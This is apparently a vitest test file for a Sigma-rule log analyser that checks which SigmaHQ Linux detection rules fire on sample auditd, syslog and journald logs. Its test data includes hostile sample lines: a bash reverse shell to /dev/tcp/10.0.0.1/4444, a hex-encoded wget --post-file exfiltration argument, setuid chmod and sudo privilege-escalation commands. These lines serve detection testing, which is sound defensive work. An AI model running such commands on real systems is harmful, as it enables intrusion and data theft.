import { readFileSync } from 'node:fs';
import { expect, it } from 'vitest';
import { describeWithSharedData, sharedData } from '../../../test/support/shared-data.ts';
import { analyze } from '../analyze.ts';
import type { Finding } from '../findings.ts';
import { readRuleFiles } from '../node.ts';
import { loadRules } from '../sigma/load-rules.ts';
import { sourceOf } from '../testing/read-all.ts';
import type { LogType } from './log-type.ts';

interface LogFile {
  readonly file: string;
  readonly kind: string;
  readonly lines: number;
}

const now = Date.UTC(2026, 10, 21);
const types: Readonly<Record<string, LogType>> = {
  auditd: 'auditd',
  'sysmon-linux': 'sysmon_linux',
  'syslog-rfc3164': 'syslog',
  'syslog-rfc5424': 'syslog',
  'syslog-iso': 'syslog',
  journald: 'journald',
  application: 'syslog',
};

/** Records of the files in which they are not lines: continued, empty or foreign ones, or fields each. */
const records: Readonly<Record<string, number>> = {
  'auditd/chopchopgo-auditd.log': 5,
  'auditd/selinux-bad-dates.log': 9,
  'auditd/centos9-audit.log': 46,
  'syslog-rfc3164/rocky9-secure.log': 545,
  'syslog-rfc3164/plaso-syslog.log': 16,
  'syslog-rfc3164/plaso-sysklogd-fileformat.log': 9,
  'syslog-rfc3164/plaso-syslog_rsyslog_traditional.log': 8,
  'syslog-rfc3164/plaso-syslog_rsyslog_TraditionalForwardFormat.log': 1,
  'syslog-rfc5424/plaso-syslogprotocol23.log': 9,
  'syslog-rfc5424/freebsd12-nginx-over-syslog.log': 49,
  'journald/rhel91-system.export': 400,
  'journald/ubuntu22-user-binary-fields.export': 3,
};
const problems: Readonly<Record<string, [string, number]>> = {
  'auditd/chopchopgo-auditd.log': ['not-an-audit-record', 2],
  'auditd/selinux-bad-dates.log': ['not-an-audit-record', 2],
  'sysmon-linux/otrf-log4shell-syslog.log': ['record-cut', 1],
  'sysmon-linux/otrf-log4shell-sentinel.ndjson': ['record-cut', 1],
};

/** What rules of SigmaHQ must find, each looked up in the log by hand. */
const found: Readonly<Record<string, Readonly<Record<string, number>>>> = {
  'auditd/libaudit-audit-rhel7.log': { 'Creation Of An User Account': 1, 'Linux Keylogging with Pam.d': 3 },
  'auditd/audit-enriched.log': {
    'Creation Of An User Account': 1,
    'Local System Accounts Discovery - Linux': 1,
    'System Owner or User Discovery - Linux': 1,
  },
  'auditd/otrf-sh-arp-cache.log': { 'Linux Remote System Discovery': 1 },
  'sysmon-linux/otrf-log4shell-syslog.log': {
    'Linux Reverse Shell Indicator': 1,
    'Suspicious Java Children Processes': 1,
    'Local Groups Discovery - Linux': 2,
    'Decode Base64 Encoded Text': 1,
  },
  'sysmon-linux/otrf-log4shell-sentinel.ndjson': {
    'Suspicious Java Children Processes': 1,
    'Local Groups Discovery - Linux': 1,
    'Decode Base64 Encoded Text': 1,
  },
  'syslog-rfc3164/rocky9-messages.log': { 'Remote File Copy': 1 },
  'network/cisco-aaa.log': { 'Cisco Dot1x Disabled': 1 },
};

/** Lines that SigmaHQ's Linux rules are about, and the rule that must be among those that find them. */
const lines: readonly (readonly [LogType, string, string])[] = [
  ['auditd', 'type=PATH msg=audit(1.000:1): item=0 name="/etc/ld.so.preload" nametype=NORMAL', 'Modification of ld.so.preload'],
  ['auditd', 'type=PATH msg=audit(1.000:1): name=2F6574632F61756469742F780A', 'Auditing Configuration Changes on Linux Host'],
  ['auditd', 'type=EXECVE msg=audit(1.000:1): argc=3 a0="chmod" a1="u+s" a2="/tmp/x"', 'Suspicious Commands Linux'],
  ['auditd', 'type=EXECVE msg=audit(1.000:1): argc=2 a0="wget" a1=2D2D706F73742D66696C653D2F612062', 'Data Exfiltration with Wget'],
  ['auditd', 'type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=103 a0=5 exe="/bin/dmesg"', 'Clear or Disable Kernel Ring Buffer Logs via Syslog Syscall'],
  ['auditd', `type=SERVICE_STOP msg=audit(1.000:1): pid=1 msg='unit=firewalld comm="systemd" res=success'`, 'Disable System Firewall'],
  ['syslog', 'Mar  1 10:00:00 h sshd[1]: fatal: buffer_get_string: bad string', 'Suspicious OpenSSH Daemon Error'],
  ['syslog', 'Mar  1 10:00:00 h sudo: a : TTY=pts/0 ; PWD=/ ; USER=#-1 ; COMMAND=/bin/id', 'Sudo Privilege Escalation CVE-2019-14287 - Builtin'],
  ['syslog', 'Mar  1 10:00:00 h crontab[1]: (root) REPLACE (root)', 'Modifying Crontab'],
  ['syslog', 'Mar  1 10:00:00 h clamd[1]: /tmp/x: Win.Trojan.Y FOUND', 'Relevant ClamAV Message'],
  ['syslog', 'Mon Mar  1 10:00:00 2021 [pid 1] weird status: 1', 'Suspicious VSFTPD Error Messages'],
  ['syslog', 'Mar  1 10:00:00 h guacd[1]: User joined (2 users now present)', 'Guacamole Two Users Sharing Session Anomaly'],
  ['syslog', 'Mar  1 10:00:00 h useradd[1]: new user: name=b, UID=0, GID=0, home=/root', 'Privileged User Has Been Created'],
  ['syslog', 'Mar  1 10:00:00 h bash[1]: bash -i >& /dev/tcp/10.0.0.1/4444', 'Suspicious Reverse Shell Command Line'],
  ['journald', '__REALTIME_TIMESTAMP=1\nSYSLOG_IDENTIFIER=sshd\nMESSAGE=unexpected internal error\n\n', 'Suspicious OpenSSH Daemon Error'],
]; // prettier-ignore

describeWithSharedData('logs of Linux', async () => {
  const index = JSON.parse(readFileSync(sharedData('logs/INDEX.json'), 'utf8')) as LogFile[];
  const { rules } = loadRules(
    await readRuleFiles([sharedData('sigma-rules/rules'), sharedData('sigma-rules/rules-emerging-threats/2019')]),
  );

  async function findings(logType: LogType, bytes: Uint8Array): Promise<readonly Finding[]> {
    return (await analyze(sourceOf(bytes), { rules, logType, maxSamples: 1, now })).findings;
  }

  it.each(index.filter(({ kind }) => types[kind] !== undefined))(
    '$file is read whole',
    async ({ file, kind, lines: count }) => {
      const bytes = readFileSync(sharedData('logs', file));
      const report = await analyze(sourceOf(bytes), { rules, logType: types[kind]!, maxSamples: 1, now });
      expect(report.events).toBe(records[file] ?? count);
      const [code, times] = problems[file] ?? [];
      expect(report.problems.map((problem) => [problem.code, problem.count])).toEqual(
        code === undefined ? [] : [[code, times]],
      );
      const named = Object.fromEntries(report.findings.map(({ ruleName, count: matches }) => [ruleName, matches]));
      expect(named).toEqual(found[file] ?? {});
    },
  );

  it('network/cisco-aaa.log is the log of a router', async () => {
    const all = await findings('syslog', readFileSync(sharedData('logs/network/cisco-aaa.log')));
    expect(Object.fromEntries(all.map(({ ruleName, count }) => [ruleName, count]))).toEqual(
      found['network/cisco-aaa.log'],
    );
  });

  it.each(lines)('%s: %s is found by %s', async (logType, line, rule) => {
    expect((await findings(logType, Buffer.from(line))).map(({ ruleName }) => ruleName)).toContain(rule);
  });

  it('the journal gives the same records in both formats', async () => {
    const texts = ['rhel91-system.export', 'rhel91-system.json'].map(async (name) => {
      const bytes = readFileSync(sharedData('logs/journald', name));
      const catchAll =
        'title: T\nlevel: low\nlogsource: {product: linux}\ndetection:\n  a: {MESSAGE: "*"}\n  condition: a\n';
      const all = loadRules([{ path: 't.yml', text: catchAll }]).rules;
      const {
        findings: [finding],
      } = await analyze(sourceOf(bytes), { rules: all, logType: 'auto', maxSamples: 0 });
      return finding!.samples.map(({ timestamp, fields: { _offset, ...fields } }) => [timestamp, fields]);
    });
    const [exported, json] = await Promise.all(texts);
    expect(exported).toHaveLength(400);
    expect(json).toEqual(exported);
  });
});
